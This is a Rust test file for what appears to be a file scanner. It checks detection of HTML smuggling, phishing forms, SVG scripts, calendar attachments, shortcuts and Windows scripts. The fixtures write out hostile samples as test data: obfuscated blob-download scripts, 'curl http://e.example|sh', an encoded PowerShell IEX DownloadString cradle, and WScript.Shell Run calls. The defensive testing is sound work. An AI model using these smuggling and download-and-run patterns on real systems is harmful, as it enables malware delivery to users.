use super::text_code;
use crate::formats::picture;
use crate::object::{Object, PropertyKind, Tree, UrlSource};
use crate::{FileKind, Limits, NoHost, Root, unpack};

fn read(name: &str, text: &str) -> Tree {
    let root = Root { name, declared_type: "", bytes: text.as_bytes() };
    unpack(&[root], &Limits::default(), &[], &mut NoHost)
}

fn base64(bytes: &[u8]) -> String {
    const DIGITS: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for part in bytes.chunks(3) {
        let bits =
            part.iter().fold(0_u32, |sum, &b| sum << 8 | u32::from(b)) << (8 * (3 - part.len()));
        for place in 0..4 {
            let digit = DIGITS[(bits >> (18 - 6 * place) & 63) as usize];
            out.push(if place <= part.len() { char::from(digit) } else { '=' });
        }
    }
    out
}

/// An archive without entries worth reading, by its signature.
fn archive() -> Vec<u8> {
    let mut bytes = b"PK\x03\x04\x14\0\0\0\0\0".to_vec();
    bytes.extend_from_slice(&[7; 90]);
    bytes
}

fn has_url(object: &Object, url: &str, source: UrlSource) -> bool {
    object.urls.iter().any(|u| u.url == url && u.source == source)
}

fn detail(object: &Object, kind: PropertyKind) -> Option<&str> {
    object.properties.iter().find(|p| p.kind == kind).map(|p| p.detail.as_str())
}

#[test]
fn a_page_shows_text_links_forms_and_where_it_goes() {
    let tree = read(
        "a.html",
        "<html><head><title>Sign in</title><base href='https://b.example/'>\
         <meta http-equiv=Refresh content=\"3; URL='https://go.example/x'\">\
         <style>p{background:url( \"https://s.example/bg\" )}</style></head><body>\
         <p>Your&nbsp;account <b>is</b> locked</p><a href='/reset'>Reset</a>\
         <a href=\"ht\ntps://l.example/\">l</a><img src=//i.example/p.png>\
         <form action=https://f.example/post><input type = 'PassWord'></form>\
         <script>window.location.href = 'https://' + 'js.example' + '/y'; var x = 1;</script>",
    );
    let page = &tree.objects[0];
    assert!(page.text.starts_with("Sign in"), "{}", page.text);
    assert!(page.text.contains("Your account is locked") && page.text.contains("var x = 1"));
    assert!(has_url(page, "https://go.example/x", UrlSource::Action));
    assert!(has_url(page, "https://js.example/y", UrlSource::Action));
    assert!(has_url(page, "https://b.example/reset", UrlSource::Link));
    assert!(has_url(page, "https://l.example/", UrlSource::Link));
    assert!(has_url(page, "//i.example/p.png", UrlSource::External));
    assert!(has_url(page, "https://s.example/bg", UrlSource::External));
    assert!(has_url(page, "https://f.example/post", UrlSource::Form));
    assert_eq!(detail(page, PropertyKind::Redirect), Some("https://go.example/x"));
    assert!(page.has(PropertyKind::PasswordForm) && page.has(PropertyKind::Script));
}

/// The child that a page makes, with the name of the file.
fn smuggled(script: &str) -> Tree {
    read("a.html", &format!("<html><body><p>wait</p><script>{script}</script></body></html>"))
}

#[test]
fn files_that_scripts_write_out_are_children() {
    let file = archive();
    let text = base64(&file);
    let (half, rest) = text.split_at(40);
    let hex: String = file.iter().map(|b| format!("{b:02x}")).collect();
    let numbers: Vec<String> = file.iter().map(|b| b.to_string()).collect();
    let numbers = numbers.join(",");
    let locked: Vec<u8> = file.iter().map(|b| b ^ 0x5a).collect();
    let keyed: Vec<u8> = file.iter().zip(b"s3cret".iter().cycle()).map(|(b, k)| b ^ k).collect();
    let reversed: String = text.chars().rev().collect();
    let percent: String = file.iter().map(|b| format!("%{b:02x}")).collect();
    let save = "var a=document.createElement('a');a.href=URL.createObjectURL(new Blob([d]));\
                a.download='invoice.zip';a.click();";
    let scripts = [
        format!("var d=atob('{text}');{save}"),
        format!(
            "var p='{half}';p+=\"{rest}\";var d=Uint8Array.from(atob(p),c=>c.charCodeAt(0));{save}"
        ),
        format!("let d=f('{half}'+'{rest}');{save}"),
        format!("var d=new Uint8Array([{numbers}]);{save}"),
        format!("var d=String.fromCharCode({numbers});{save}"),
        format!("var d=g('{hex}');{save}"),
        format!("var d=atob('{reversed}'.split('').reverse().join(''));{save}"),
        format!("var d=unescape('{percent}');{save}"),
        format!("var d=['{half}','{rest}'].join('');{save}"),
        format!(
            "var d=dec('{}');function dec(s){{return s.charCodeAt(0)^90}}{save}",
            base64(&locked)
        ),
        format!("var k='s3cret';d=x(atob('{}'),k);x=(a,b)=>a^b;{save}", base64(&keyed)),
        format!("eval(atob('{}'))", base64(format!("var d=atob('{text}');{save}").as_bytes())),
        format!("a.href='data:application/zip;base64,{text}';a.download='invoice.zip';"),
        format!("navigator.msSaveBlob(new Blob([atob('{text}')]), 'invoice.zip')"),
        format!(
            "document.write(unescape('%3Ca%20download=%22invoice.zip%22\
             %20href=data:;base64,{text}%3E'))"
        ),
    ];
    for script in scripts {
        let tree = smuggled(&script);
        let found = tree.objects.iter().find(|o| o.kind == FileKind::Zip);
        let Some(found) = found else { panic!("{script}: {tree:#?}") };
        assert!(found.path.ends_with("/invoice.zip"), "{script}: {}", found.path);
        assert!(tree.objects[0].has(PropertyKind::Smuggling), "{script}");
    }
}

#[test]
fn files_in_attributes_and_comments_and_inner_pages_are_children() {
    let text = base64(&archive());
    let tree = read(
        "a.htm",
        &format!(
            "<html><a download=b.zip href='data:application/zip;base64,{text}'>x</a>\
             <!--{text}--><iframe srcdoc='&lt;form action=https://f.example/&gt;'></iframe>"
        ),
    );
    let paths: Vec<&str> = tree.objects.iter().map(|o| o.path.as_str()).collect();
    assert_eq!(paths[..3], ["a.htm", "a.htm/b.zip", "a.htm/srcdoc.html"]);
    assert_eq!(tree.objects[1].declared_type, "application/zip");
    assert!(tree.objects[2].has(PropertyKind::Form));
}

#[test]
fn a_saved_file_needs_no_signature() {
    let script = "WScript.CreateObject('WScript.Shell').Run('calc'); // ".repeat(5);
    let tree = smuggled(&format!(
        "var d='{}';var b=toBlob(d,'application/octet-stream');\
         navigator.msSaveOrOpenBlob(b,'a.JS');\
         function toBlob(d){{return new Blob([window.atob(d)])}}",
        base64(script.as_bytes())
    ));
    assert_eq!(tree.objects[1].path, "a.html/a.JS");
    assert!(tree.objects[1].has(PropertyKind::SuspiciousCall));
}

#[test]
fn plain_pages_smuggle_nothing() {
    let logo = base64(&[0x47; 400]);
    let tree = smuggled(&format!(
        "var hash='{}';var u='{}';$.ajax({{url:'/x',headers:{{a:'b'}}}}).done(function(r){{}});",
        "0123456789abcdef".repeat(4),
        logo
    ));
    assert_eq!(tree.objects.len(), 1, "{tree:#?}");
    assert!(!tree.objects[0].has(PropertyKind::Smuggling));
}

#[test]
fn pictures_in_svg_with_scripts_and_links() {
    let tree = read(
        "a.svg",
        "<?xml version='1.0'?><svg xmlns='x'><a xlink:href='https://a.example/'><text>Open</text>\
         </a><script><![CDATA[location='https://b.example/']]></script><foreignObject>\
         <input type=password></foreignObject><image href='https://c.example/p.png'/></svg>",
    );
    let object = &tree.objects[0];
    assert_eq!(object.kind, FileKind::Svg);
    assert!(object.has(PropertyKind::Script) && object.has(PropertyKind::PasswordForm));
    assert!(has_url(object, "https://a.example/", UrlSource::Link));
    assert!(has_url(object, "https://b.example/", UrlSource::Action), "{object:?}");
    assert!(has_url(object, "https://c.example/p.png", UrlSource::External));
}

#[test]
fn calendars_and_cards_have_links_and_files() {
    let text = base64(&archive());
    let (first, second) = text.split_at(30);
    let tree = read(
        "a.ics",
        &format!(
            "BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nSUMMARY:Pay\\, now\r\nURL:https://u.example/\r\n\
             ATTACH:https://t.example/f.zip\r\nDESCRIPTION:see https://d.exa\r\n mple/x\r\n\
             ATTACH;FMTTYPE=application/zip;ENCODING=BASE64;VALUE=BINARY;X-FILENAME=\"b.zip\":\
             {first}\r\n {second}\r\nEND:VEVENT\r\n"
        ),
    );
    let object = &tree.objects[0];
    assert!(object.text.contains("Pay, now") && object.text.contains("https://d.example/x"));
    assert!(has_url(object, "https://u.example/", UrlSource::Link));
    assert!(has_url(object, "https://t.example/f.zip", UrlSource::External));
    assert_eq!(tree.objects[1].path, "a.ics/b.zip");
    assert_eq!(tree.objects[1].kind, FileKind::Zip);
    let tree = read(
        "b.vcf",
        &format!(
            "BEGIN:VCARD\nitem1.URL:https://v.example/\nPHOTO;BASE64:\n {first}\n {second}\n\n\
             END:VCARD"
        ),
    );
    assert!(has_url(&tree.objects[0], "https://v.example/", UrlSource::Link));
    assert_eq!(tree.objects[1].kind, FileKind::Zip);
}

#[test]
fn shortcuts_lead_elsewhere() {
    let tree = read(
        "a.url",
        "[InternetShortcut]\r\nURL=file://10.0.0.1/share/a.exe\r\nIconFile=\\\\h\\i.ico\r\n",
    );
    assert!(has_url(&tree.objects[0], "file://10.0.0.1/share/a.exe", UrlSource::Shortcut));
    assert!(has_url(&tree.objects[0], "\\\\h\\i.ico", UrlSource::External));
    let tree =
        read("b", "[Desktop Entry]\nType=Application\nExec=sh -c 'curl http://e.example|sh'\n");
    assert!(detail(&tree.objects[0], PropertyKind::CommandLine).unwrap().starts_with("sh -c"));
    let tree = read(
        "c.library-ms",
        "<?xml version='1.0'?><libraryDescription><simpleLocation>\
        <url>\\\\10.0.0.2\\dav</url></simpleLocation></libraryDescription>",
    );
    assert!(has_url(&tree.objects[0], "\\\\10.0.0.2\\dav", UrlSource::Shortcut));
}

#[test]
fn scripts_of_windows_are_told_by_name_and_by_content() {
    let command: Vec<u8> = "IEX (New-Object Net.WebClient).DownloadString('http://p.example/')"
        .encode_utf16()
        .flat_map(u16::to_le_bytes)
        .collect();
    let tree =
        read("a.bat", &format!("@echo off\r\npowershell -nop -e^nc {}\r\n", base64(&command)));
    let object = &tree.objects[0];
    assert_eq!(detail(object, PropertyKind::Script), Some("bat"));
    assert!(object.text.contains("DownloadString('http://p.example/')"), "{}", object.text);
    assert!(object.properties.iter().any(|p| p.detail == "DownloadString"));
    let tree =
        read("noname", "var s = new ActiveXObject('WScript.Shell'); s.Run('cmd.exe /c calc');");
    assert!(tree.objects[0].has(PropertyKind::SuspiciousCall));
    let tree = read(
        "x.hta",
        "<script language=vbscript>CreateObject(\"WScript.Shell\").Run \"calc\"</script>",
    );
    assert!(
        tree.objects[0].has(PropertyKind::Script)
            && tree.objects[0].has(PropertyKind::SuspiciousCall)
    );
    assert!(
        !read("a.txt", "The powershell course starts on Monday.").objects[0]
            .has(PropertyKind::Script)
    );
}

#[test]
fn codes_without_pictures() {
    let gray = picture::tests::code("https://t.example/", 1, 0);
    let dark = |x: usize, y: usize| {
        x < gray.width && y < gray.height && gray.pixels[y * gray.width + x] == 0
    };
    let mut full = String::new();
    let mut halves = String::new();
    let mut light = String::new();
    for y in 0..gray.height {
        (0..gray.width).for_each(|x| full.push_str(if dark(x, y) { "██" } else { "  " }));
        full.push_str("  \n");
    }
    let block = |upper, lower| match (upper, lower) {
        (true, true) => '█',
        (true, false) => '▀',
        (false, true) => '▄',
        (false, false) => ' ',
    };
    for y in (0..gray.height).step_by(2) {
        (0..gray.width).for_each(|x| halves.push(block(dark(x, y), dark(x, y + 1))));
        halves.push('\n');
    }
    let size = gray.width + 4;
    let lit = |x: usize, y: usize| x < size && y < size && !(x > 1 && y > 1 && dark(x - 2, y - 2));
    for y in (0..size).step_by(2) {
        (0..size).for_each(|x| light.push(block(lit(x, y), lit(x, y + 1))));
        light.push('\n');
    }
    for text in [full, halves, light] {
        assert_eq!(
            text_code::blocks(&format!("scan\n{text}thanks")),
            ["https://t.example/"],
            "{text}"
        );
    }
    let mut table = String::from("<html><table>");
    for y in 0..gray.height {
        table.push_str("<tr>");
        for x in 0..gray.width {
            table.push_str(if dark(x, y) { "<td bgcolor='#000000'>" } else { "<td>" });
        }
    }
    table.push_str("</table>");
    let tree = read("a.html", &table);
    assert!(has_url(&tree.objects[0], "https://t.example/", UrlSource::QrCode));
}

#[test]
fn hostile_text_is_bounded() {
    let page = "<html><a href='data:;base64,AAAA' \
        onclick=\"x=atob('QUFB')+[1,2].map(c=>c^1)\">&#x41;\
        <script>var a=b.c[0]('x').d=`e`/f/g;new Blob([h],{i:'j'})</script><!-- k --><svg>";
    for end in 0..page.len() {
        read("a.html", &page[..end]);
    }
    for at in 0..page.len() {
        let mut bytes = page.as_bytes().to_vec();
        bytes[at] ^= 0x15;
        let root = Root { name: "a.html", declared_type: "", bytes: &bytes };
        unpack(&[root], &Limits::default(), &[], &mut NoHost);
    }
    for unit in
        ["a=(", "[", "f(", "a=[b=(", "x.y(", "'a'+", "`", "/*", "a^=", "new ", "-", "a.b=", "s+=s;"]
    {
        let script = unit.repeat(60_000 / unit.len());
        read("a.js", &format!("s='aaaaaaaaaaaaaaaa';{script}"));
        smuggled(&script);
    }
    for unit in
        ["<a b=", "<", "<script>", "<!--", "&", "<td", "</x", "<a href=\"data:,<a>\" ", "url("]
    {
        read("a.html", &format!("<html>{}", unit.repeat(40_000 / unit.len())));
    }
}
